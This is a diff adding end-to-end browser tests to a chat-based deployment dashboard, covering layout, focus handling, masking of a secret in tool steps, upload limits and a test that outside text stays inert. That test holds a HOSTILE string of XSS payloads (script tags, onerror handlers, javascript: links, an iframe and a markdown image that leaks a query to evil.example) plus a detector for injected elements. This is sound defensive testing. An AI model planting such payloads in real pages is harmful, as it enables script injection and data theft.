@@ -241,13 +241,18 @@ async def test_the_phone_shows_everything_without_sideways_scroll(site: Site, op
     assert await screen.too_wide() <= 0
     await screen.shot("phone-approval")
     box = await page.get_by_test_id(f"approve-{approval}").bounding_box()
+    composer = await page.locator("#message-composer, #chat-input").first.bounding_box()
     assert box is not None
+    assert composer is not None
     assert box["height"] >= 44
+    assert box["y"] + box["height"] <= composer["y"]  # in sight, not behind the place to type
     await page.get_by_test_id("board-pill").click()
     await expect(page.get_by_test_id("board-panel")).to_be_visible()
+    await expect(page.get_by_role("button", name="Close the board")).to_be_focused()
     assert await screen.too_wide() <= 0
     await screen.shot("phone-board")
     await page.keyboard.press("Escape")
+    await expect(page.get_by_test_id("board-pill")).to_be_focused()
     await expect(page).to_have_url(re.compile("/thread/"))
     await page.reload()
     await expect(page.get_by_test_id(f"approve-{approval}")).to_be_enabled()
@@ -279,15 +284,104 @@ async def test_the_login_form_takes_the_token_and_says_what_is_wrong(site: Site,
     await expect(page.get_by_test_id("board-panel")).to_be_visible()
 
 
+async def test_a_tool_step_shows_and_stores_no_secret(own_site: Site, open_screen: OpenScreen) -> None:
+    screen = await open_screen()
+    await enter(own_site, screen)
+    await screen.say("change the environment")
+    await expect(screen.page.get_by_text("Done: two variables set.")).to_be_visible()
+    await screen.page.locator("#step-set_env").click()
+    await expect(screen.page.get_by_text("(hidden)")).to_be_visible()
+    own_site.stop()
+    with sqlite3.connect(own_site.home / "chat.db") as database:
+        steps = repr(database.execute("SELECT * FROM steps").fetchall())
+    assert "(hidden)" in steps
+    assert "hunter2" not in steps
+
+
+HOSTILE = (
+    "![leak](http://evil.example/?q=1) <img src=http://evil.example/i onerror=alert(1)> <script>alert(2)</script> "
+    "[log in](javascript:alert(3)) <a href=javascript:alert(4)>here</a> <b>bold</b> <iframe src=//evil.example>"
+)
+"""What a container, a registry or a model may print."""
+
+
+STRANGE = """() => {
+    const kinds = 'a[href^="javascript:" i], iframe, [onerror], .kl-board img, body script';
+    const made = [...document.querySelectorAll(kinds)].filter((node) => !node.src?.startsWith(location.origin));
+    const bold = [...document.querySelectorAll('b')].filter((node) => node.textContent === 'bold');
+    return [...made, ...bold].map((node) => node.outerHTML.slice(0, 120));
+}"""
+"""Finds elements that only such text can have made."""
+
+
 async def test_text_from_outside_stays_text(site: Site, open_screen: OpenScreen) -> None:
-    site.change_app("evil", image="<img src=x onerror=alert(1)>", wished=1, ready=1, failing=0, since=0)
+    hostile = {"image": HOSTILE, "reason": HOSTILE, "detail": HOSTILE}
+    site.change_app("evil", **hostile, wished=1, ready=0, failing=0, since=0)
     screen = await open_screen()
     await enter(site, screen)
-    await expect(screen.page.get_by_test_id("app-evil")).to_contain_text("<img src=x onerror=alert(1)>")
-    assert await screen.page.get_by_test_id("app-evil").locator("img").count() == 0
-    await screen.say("![leak](http://evil.example/?q=1) <b>bold</b>")
-    await expect(screen.page.get_by_text("You said:")).to_be_visible()
-    assert await screen.page.locator("b", has_text="bold").count() == 0
+    page = screen.page
+    card = page.get_by_test_id("app-evil")
+    await expect(card.locator(".kl-reason")).to_have_text(HOSTILE)
+    await expect(card.locator("code")).to_have_text(HOSTILE)
+    if await card.locator(".kl-row").count() == 0:
+        await card.locator(".kl-head").click()
+    await expect(card.locator(".kl-row")).to_contain_text("javascript:alert(3)")
+    await screen.say(f"delete evil {HOSTILE}")  # into the approval card, the step and the reply
+    await expect(page.get_by_test_id(re.compile("^approval-")).first).to_contain_text("<script>alert(2)</script>")
+    await screen.say(HOSTILE)
+    await expect(page.get_by_text("You said:")).to_be_visible()
+    assert await page.evaluate(STRANGE) == []
+    assert await screen.too_wide() <= 0
+    await screen.shot("hostile")
+    await page.goto(f"{site.url}/dashboard")
+    await expect(page.get_by_test_id("app-evil")).to_contain_text("<b>bold</b>")
+    assert await page.evaluate(STRANGE) == []
+    site.change_app("evil", image="evil", reason="", detail="", ready=1)
     screen.foreign.clear()  # the browser names the request, the policy refuses it:
     assert any("evil.example" in error for error in screen.errors)
     screen.errors.clear()
+
+
+async def test_an_address_is_opened_where_the_login_cookie_does_not_go_by_keyboard_too(
+    site: Site, open_screen: OpenScreen
+) -> None:
+    screen = await open_screen()
+    await enter(site, screen)
+    await screen.say("deploy 1 keyed")
+    link = screen.page.get_by_role("link", name="http://127.0.0.1:32768")
+    await expect(link).to_be_visible()
+    await link.focus()
+    await expect(link).to_have_attribute("href", "http://localhost:32768/")
+
+
+async def test_a_long_name_stays_inside_the_board(site: Site, open_screen: OpenScreen) -> None:
+    name = "a" * 63
+    site.change_app(name, image=f"registry.example:5000/{'b' * 80}:1", wished=2, ready=2, failing=0, since=0)
+    for width in (1440, 390):
+        screen = await open_screen(width=width, height=844)
+        await enter(site, screen)
+        await expect(screen.page.get_by_test_id(f"app-{name}").first).to_be_attached()
+        assert await screen.too_wide() <= 0
+        over = "[...document.querySelectorAll('.kl-board')].map((board) => board.scrollWidth - board.clientWidth)"
+        assert max(await screen.page.evaluate(over)) <= 0
+    site.change_app(name, wished=0, ready=0)
+
+
+async def test_uploads_that_cannot_be_used_are_answered_with_one_sentence(site: Site, open_screen: OpenScreen) -> None:
+    screen = await open_screen()
+    await enter(site, screen)
+    page = screen.page
+
+    async def attach(content: bytes) -> None:
+        file = FilePayload(name="app.yaml", mimeType="application/yaml", buffer=content)
+        await page.locator("#upload-button-input").set_input_files([file])
+
+    async with page.expect_response("**/project/file?*"):
+        await attach(b"#" * 300_000)
+    await screen.say("apply this")
+    await expect(page.get_by_text("app.yaml is larger than 256 KiB, so nothing was done")).to_be_visible()
+    await attach(b"#" * 3_000_000)
+    await expect(page.get_by_text("File is larger than 1 MB")).to_be_visible()
+    await attach(b"")
+    await expect(page.get_by_text("Failed to upload app.yaml: This cannot be used; nothing was done.")).to_be_visible()
+    assert "Traceback" not in site.log
